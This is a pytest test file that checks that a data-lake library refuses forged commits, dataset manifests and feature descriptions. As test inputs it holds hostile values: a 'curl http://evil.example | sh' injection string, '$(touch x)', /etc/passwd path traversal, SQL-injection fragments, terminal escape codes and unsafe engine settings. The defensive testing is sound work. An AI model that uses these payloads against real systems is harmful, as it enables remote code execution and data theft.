"""Documents of a stranger, whose checksums and hashes all hold: every member is held to its type, its range and its spelling."""

import json

import pytest

import eventlake as el
from eventlake.core.documents.provenance import read_provenance
from eventlake.core.documents.stored import (
    Bounds,
    Count,
    Document,
    Sha256,
    Text,
    check_bounds,
    converted,
    decoded,
)
from eventlake.core.hashing.canonical import canonical_json, sha256_hex
from eventlake.datasets.verifying.verify import verify_lake
from eventlake.errors import CorruptionError, InvalidInputError, UnsupportedFormatError
from eventlake.storage import MemoryStorage
from tests.scope import some
from tests.support.forging import features, forge_commit, forge_dataset, lake_of_a_stranger

pytestmark = pytest.mark.every_case

NO_INTEGERS = [True, "1", None, [], {}, -1, 1 << 63, 10**400]
NO_HASHES = ["", "0" * 63, "0" * 65, "G" * 64, "A" * 64, "0" * 64 + "\n", 0, None, []]


def numbered(*cases):
    return [
        pytest.param(*case, id=f"{number} {'.'.join(map(str, case[0]))} {ascii(case[1])[:30]}")
        for number, case in enumerate(cases)
    ]


@pytest.fixture
def storage():
    return lake_of_a_stranger()


def set_at(document, path, value):
    *way, last = path
    for step in way:
        document = document[step]
    document[last] = value


@pytest.mark.parametrize(
    ("path", "value"),
    numbered(
        *(
            (("recorded_at",), value)
            for value in (
                "0]::BIGINT",
                "2026-01-01",
                True,
                -62135596800000001,
                253402300800000000,
                None,
                [],
            )
        ),
        *((("start",), value) for value in NO_INTEGERS),
        *((("version",), value) for value in NO_INTEGERS),
        *((("root",), value) for value in NO_HASHES),
        *((("prev",), value) for value in NO_HASHES if value is not None),
        *((("schemas",), value) for value in NO_HASHES if value is not None),
        *((("frontier", 0), value) for value in NO_HASHES),
        *((("segments", 0, "sha256"), value) for value in (*NO_HASHES, "../" * 20 + "etc/pass")),
        *((("segments", 0, "bytes"), value) for value in NO_INTEGERS),
        *((("segments", 0, "undated"), value) for value in NO_INTEGERS),
        *(
            (("segments", 0, "columns"), value)
            for value in ([], ["id"], ["id", "source", "type", 'x" FROM'], ["id"] * 4, "id")
        ),
        *(
            (("segments", 0, "types"), value)
            for value in (
                {},
                {"": 10},
                {"a\x00": 10},
                {"a\x1b[2J": 10},
                {"a": "10"},
                {"a": True},
                [],
            )
        ),
        *(
            (("segments", 0, "time"), value)
            for value in ([0], [0, 0, 0], ["0", "0"], [0, 1 << 62], [1, 0], 0)
        ),
        *(
            (("segments", 0, "range"), value)
            for value in ([], None, ["0"], [None], ["0" * 64] * 200)
        ),
        *((("origin",), value) for value in ("", "a b", "a\n", "a+b", "x" * 201, 1, None)),
        *(
            (("commit_id",), value)
            for value in ("", "x", 1, None, "00000000-0000-4000-8000-00000000000G")
        ),
        *((("deliveries", 0, "position"), value) for value in NO_INTEGERS),
        *((("deliveries", 0, "name"), value) for value in ("", "x" * 201, "a\x1b", 1, None)),
        *((("recent", "ids"), value) for value in ("A", "AAAA", "====", 1, None, "\x00")),
        *((("recent", "start"), value) for value in NO_INTEGERS),
        (("recent", "files"), [{}]),
        (("tiers",), [{}]),
        (("tiers",), {}),
        (("fence",), True),
        (("unknown",), 1),
    ),
)
def test_a_commit_with_a_member_that_no_version_writes_is_refused_by_its_file(storage, path, value):
    forge_commit(storage, 3, lambda commit: set_at(commit, path, value))
    with pytest.raises(CorruptionError, match=r"^log/00000000000000000003\.json "):
        el.open(storage)
    assert "log/00000000000000000003.json" in {
        finding.path for finding in verify_lake(storage).problems
    }


def test_the_refusal_names_the_member_what_is_expected_and_what_was_found(storage):
    forge_commit(storage, 3, lambda commit: set_at(commit, ("segments", 0, "undated"), "0; DROP"))
    with pytest.raises(CorruptionError) as caught:
        el.open(storage)
    expected = "log/00000000000000000003.json is not a valid commit: expected int at segments[0].undated, found '0; DROP'"
    assert caught.value.message == expected


def test_a_commit_of_a_newer_format_is_left_to_a_newer_eventlake_whatever_else_it_has(storage):
    forge_commit(
        storage, 3, lambda commit: commit.update(format=2, surprise={"a": "b"}, recorded_at="later")
    )
    with pytest.raises(UnsupportedFormatError, match="format 2"):
        el.open(storage)


HOSTILE_SETTINGS = [
    {"log_query_path": "/out"},
    {"allow_unsigned_extensions": True},
    {"temp_directory": "/out"},
    {"autoinstall_known_extensions": True},
    {"extension_directory": "/out"},
    {"custom_extension_repository": "http://localhost"},
    {"secret_directory": "/out"},
    {"enable_profiling": "json", "profiling_output": "/out"},
    {"access_mode": "READ_WRITE"},
    {"threads": 10_000},
    {"threads": True},
    {"threads": "1"},
    {"threads": 0},
    {"memory_limit": "1PB"},
    {"memory_limit": 4},
    {"preserve_insertion_order": 1},
    {"preserve_insertion_order": False},
    {"engine": "in-memory"},
    {"": ""},
    {"THREADS": 1},
]


@pytest.mark.parametrize("settings", HOSTILE_SETTINGS, ids=str)
@pytest.mark.parametrize(
    "base",
    [{}, {"memory_limit": "4GB", "preserve_insertion_order": True, "threads": 1}],
    ids=["alone", "more"],
)
def test_settings_that_this_version_does_not_write_reach_no_engine(
    storage, settings, base, tmp_path
):
    if base | settings == base:
        pytest.skip("the settings of this version")
    forged = {
        name: str(tmp_path / "out") if isinstance(value, str) and "/" in value else value
        for name, value in settings.items()
    }
    manifest_hash = forge_dataset(
        storage, "paid", lambda manifest: manifest["recipe"].update(settings={**base, **forged})
    )
    lake = el.open(storage)
    for read in (
        lake.reproduce,
        lake.dataset,
        lambda one: lake.explain(one, "/loan/1"),
        lake.snapshot,
    ):
        with pytest.raises(
            CorruptionError,
            match=r"builds/paid/[0-9a-f]{12}/manifest\.json is not a valid dataset manifest: expected",
        ):
            read(manifest_hash[:12])
    with pytest.warns(UserWarning, match="settings"):
        assert [dataset.name for dataset in lake.datasets()] == ["risk"]
    assert any("settings" in finding.message for finding in lake.verify().problems)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    "settings",
    [{}, {"memory_limit": "4GB", "preserve_insertion_order": True, "threads": 1}],
    ids=["exact", "fixed"],
)
def test_settings_that_this_version_writes_are_run(storage, settings):
    manifest_hash = forge_dataset(
        storage, "paid", lambda manifest: manifest["recipe"].update(settings=settings)
    )
    assert el.open(storage).reproduce(manifest_hash[:12]).identical


@pytest.mark.parametrize(
    ("path", "value"),
    numbered(
        *((("recipe", "name"), value) for value in ("", "../x", "a/b", "A", "a\x00", 1, None)),
        *((("recipe", "kind"), value) for value in ("python", "features", "SQL", "shell", None)),
        *(
            (("recipe", "entry"), value)
            for value in ("other.sql", "../query.sql", "query.sql:f", "", None)
        ),
        *(
            (("recipe", "engine", "name"), value)
            for value in ("polars", "eventlake", "sqlite", None)
        ),
        *(
            (("recipe", "engine", "version"), value)
            for value in ("1.0; curl http://evil.example | sh #", "$(touch x)", "", 2)
        ),
        *((("recipe", "level"), value) for value in ("EXACT", "certain", None)),
        *((("recipe", "check"), value) for value in ("proved", "", None)),
        *((("recipe", "checkpoint", "watermark"), value) for value in NO_INTEGERS),
        *((("recipe", "checkpoint", "root"), value) for value in NO_HASHES),
        *((("recipe", "clock_hash"), value) for value in NO_HASHES if value is not None),
        *(
            (("recipe", "sources"), value)
            for value in ({}, [], {"../../etc/passwd": "0" * 64}, {"/etc/passwd": "0" * 64})
        ),
        *((("recipe", "parameters"), value) for value in ([], {"a": []}, {"a": "\x00"})),
        *((("recipe", "key"), value) for value in ([], ["a", "a"], "subject", [1], ["a\x00"])),
        *(
            (("recipe", "schemas"), value)
            for value in ([], {"a": "b"}, {"": "0" * 64}, {"a\x1b": "0" * 64})
        ),
        *(
            (("recipe", "declared_schema"), value)
            for value in ([["a"]], [["a", "int"]], {}, [["a", "list<" * 2000]], [["a", 1]])
        ),
        *(
            (("recipe", "spine"), value)
            for value in (
                {},
                [],
                {"rows": -1, "content_hash": "0" * 64},
                {"rows": 1, "content_hash": "x"},
            )
        ),
        *((("output", "rows"), value) for value in NO_INTEGERS),
        *((("output", "content_hash"), value) for value in NO_HASHES),
        *(
            (("output", "schema"), value)
            for value in (
                [["n", "decimal(99, 2)"]],
                [["n", "utf8"], ["n", "utf8"]],
                [["n", "struct<"]],
                1,
            )
        ),
        (("recipe", "surprise"), 1),
        (("surprise",), {}),
    ),
)
def test_a_dataset_manifest_with_a_member_that_no_version_writes_is_refused_by_its_file(
    storage, path, value
):
    forge_dataset(storage, "paid", lambda manifest: set_at(manifest, path, value))
    with pytest.warns(UserWarning, match=r"^builds/paid/[0-9a-f]{12}/manifest\.json "):
        assert [dataset.name for dataset in el.open(storage).datasets()] == ["risk"]
    assert any(finding.path.endswith("/manifest.json") for finding in verify_lake(storage).problems)


@pytest.mark.parametrize(
    ("path", "value"),
    some(
        numbered(
            *(
                (("features", 0, "where", "sign"), value)
                for value in ("> 0) OR (1=", "", "not", "null", "in", None, 1)
            ),
            *(
                (("features", 0, "where", "parts"), value)
                for value in ([], [{}], None, [{"sign": ">"}] * 2)
            ),
            *(
                (("features", 0, "offset"), value)
                for value in ("0 AS a", -1, 1.0, True, None, 200 * 366 * 86_400_000_000 + 1)
            ),
            *((("features", 0, "window"), value) for value in ("30d", 0, -1, 1.5, True, 1 << 62)),
            *(
                (("features", 0, "kind"), value)
                for value in ("sum", "rate", "median", "count(*)", None, 1)
            ),
            *((("features", 0, "event_type"), value) for value in ("", "a\x00", None, 1, [])),
            *((("features", 0, "field"), value) for value in ('x" FROM', "", 1, "a\x00")),
            *((("features", 0, "unit"), value) for value in ("d", "days", "d; DROP", 1)),
            *((("features", 0, "n"), value) for value in ("1", 1, -1, 1.0, True, 1001, None)),
            *(
                (("features", 0, "name"), value)
                for value in ("", "a b", 'a"', "1a", None, "x" * 201)
            ),
            *((("features", 1, "sign"), value) for value in ("**", "", ";", None, 1)),
            *(
                (("features", 1, "right"), value)
                for value in (
                    "1; DROP",
                    "NaN",
                    "inf",
                    "1_0",
                    "\u0661",
                    " 1",
                    "1e999",
                    "9" * 39,
                    2,
                    None,
                )
            ),
            *((("depth",), value) for value in ("1}", 0, 21, True, 1.0)),
            *((("by",), value) for value in ("", None, 1, "a\x00")),
            *((("known",), value) for value in ("always", None, True)),
            *(
                (("via",), value)
                for value in ({}, [{}], [{"event_type": "a", "child": "", "parent": "p"}])
            ),
            (("features",), []),
            (("format",), 2),
            (("surprise",), 1),
        ),
        22,
    ),
)
def test_a_description_of_features_with_a_member_that_no_version_writes_is_refused_by_its_file(
    storage, path, value
):
    def changed(data):
        document = json.loads(data)
        set_at(document, path, value)
        return json.dumps(document).encode()

    manifest_hash = forge_dataset(storage, "risk", source=changed)
    lake = el.open(storage)
    with pytest.raises(InvalidInputError, match=r"risk"):
        lake.reproduce(manifest_hash[:12])
    assert any("risk" in finding.message for finding in lake.verify(deep=True).problems)


def test_what_describes_features_is_read_as_it_was_declared():
    assert el.FeatureSet.from_text("risk", features().text()).text() == features().text()


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "{",
        "[" * 100_000,
        '{"features":' * 100_000,
        '{"by":"\ud800"}',
        "\x00",
        '{"a":NaN}',
    ],
    ids=lambda one: one[:12],
)
def test_what_is_no_description_of_features_is_refused_by_name(text):
    with pytest.raises(InvalidInputError, match=r"^feature set risk: features\.json: expected"):
        el.FeatureSet.from_text("risk", text)


def test_conditions_that_no_reader_would_accept_are_refused_when_they_are_written():
    where = el.field("a") == 0
    for number in range(199):
        where &= el.field("a") != number
    declared = el.FeatureSet("risk", features=[el.count("a", where=where)])
    assert el.FeatureSet.from_text("risk", declared.text()).text() == declared.text()
    with pytest.raises(InvalidInputError, match="nested at most 200 deep"):
        where & (el.field("b") == 1)


class _Named(Document):
    """A document with names of its own."""

    kept: list[dict[Text, Sha256]]


@pytest.mark.parametrize(
    ("name", "shown"),
    [("a\x1bb", r"'a\x1bb'"), ("", "''"), ("a\n", r"'a\n'"), ("x" * 5_000, "'" + "x" * 59 + "…")],
    ids=["escape", "empty", "newline", "long"],
)
def test_a_name_that_no_version_writes_is_told_in_words_and_shown(name, shown):
    document = {"kept": [{}, {"fine": "0" * 64, name: "0" * 64}]}
    expected = f"expected 1 to 4096 characters without control characters as a name in kept[1], found {shown}"
    with pytest.raises(CorruptionError) as caught:
        converted(document, "x", _Named, "document")
    assert caught.value.message == f"x is not a valid document: {expected}"
    with pytest.raises(CorruptionError) as caught:
        decoded(json.dumps(document).encode(), _Named, CorruptionError)
    assert caught.value.message == expected


class _Figures(Document):
    """A document with a hash and a count."""

    hash: Sha256 = "0" * 64
    count: Count = 0


@pytest.mark.parametrize(
    ("member", "shown"),
    [
        ({"hash": "x" * 58}, "'" + "x" * 58 + "'"),
        ({"hash": "x" * 59}, "'" + "x" * 59 + "…"),
        ({"hash": [1, 2]}, "array"),
        ({"hash": {"a": 1}}, "object"),
        ({"hash": True}, "True"),
        ({"count": -(10**30)}, str(-(10**30))),
        ({"count": -(1 << 128)}, "a larger number"),
        ({"count": 1 << 128}, "a larger number"),
    ],
    ids=["60 characters", "61", "array", "object", "bool", "digits", "small", "large"],
)
def test_a_refusal_shows_short_values_whole_and_long_ones_cut(member, shown):
    with pytest.raises(CorruptionError) as caught:
        converted(member, "x", _Figures, "document")
    assert caught.value.message.endswith(f", found {shown}")


@pytest.mark.parametrize(
    ("bounds", "problem"),
    [
        (Bounds(size_bytes=12, depth=2, members=7), None),
        (Bounds(size_bytes=11, depth=2, members=7), "expected at most 11 bytes, found 12"),
        (
            Bounds(size_bytes=12, depth=1, members=7),
            "expected at most 1 levels of nesting, found more",
        ),
        (Bounds(size_bytes=12, depth=2, members=6), "expected at most 6 members, found more"),
    ],
)
def test_a_document_may_reach_its_bounds_and_not_go_beyond_them(bounds, problem):
    assert check_bounds(b"[[],{},[],1]", bounds) == problem


def test_brackets_in_texts_do_not_nest():
    assert check_bounds(rb'["[[[{\"[[", "]]"]', Bounds(size_bytes=100, depth=1)) is None


@pytest.mark.parametrize("name", ["a\x1b[31mb", "a\nb", "\x00", "a\x85", "x" * 4_097, "é" * 2_049])
def test_an_event_type_that_no_event_can_have_is_refused_in_words(name):
    lake = el.create(MemoryStorage(), origin="a.example/b")
    with pytest.raises(
        InvalidInputError, match="without control characters and of at most 4,096 bytes"
    ) as caught:
        lake.register(name, {"type": "object", "properties": {"a": {"type": "integer"}}})
    assert len(caught.value.message) < 300
    lake.register("é" * 2_048, {"type": "object", "properties": {"a": {"type": "integer"}}})


def provenance_with(spine):
    """The bytes of a sealed provenance whose member ``event_spine`` is the given JSON text."""
    machine = {"machine": "m", "polars_threads": 1, "python": "3", "system": "s"}
    files = {"part-0": {"bytes": 1, "sha256": "a" * 64}}
    hashes = {"commit_hash": None, "manifest_hash": "b" * 64}
    rest = {
        "built_at": 1,
        "environment": machine,
        "files": files,
        "format": 1,
        "milliseconds": 1,
        "versions": {"python": "3"},
    }
    plain = canonical_json({**hashes, **rest, "event_spine": {"a": "HERE"}}).replace(
        b'"HERE"', spine
    )
    return plain.replace(
        b'"commit_hash"', b'"checksum":"%s","commit_hash"' % sha256_hex(plain).encode(), 1
    )


def test_a_sealed_document_may_be_nested_to_its_bound():
    assert "event_spine" in read_provenance(provenance_with(b"[" * 60 + b"]" * 60), "p")


@pytest.mark.parametrize(
    ("spine", "problem"),
    [
        (b"[" * 64 + b"]" * 64, "expected at most 64 levels of nesting, found more"),
        (b"[" * 5000 + b"]" * 5000, "expected at most 64 levels of nesting, found more"),
        (b"[" + b"1," * 2_000_000 + b"1]", "expected at most 2,000,000 members, found more"),
        (b'"' + b"x" * (64 << 20) + b'"', "expected at most 67,108,864 bytes, found 67,109,"),
    ],
    ids=["one level too many", "deep", "wide", "large"],
)
def test_a_sealed_document_beyond_its_bounds_is_refused_before_it_is_parsed(spine, problem):
    with pytest.raises(CorruptionError, match=problem):
        read_provenance(provenance_with(spine), "p")
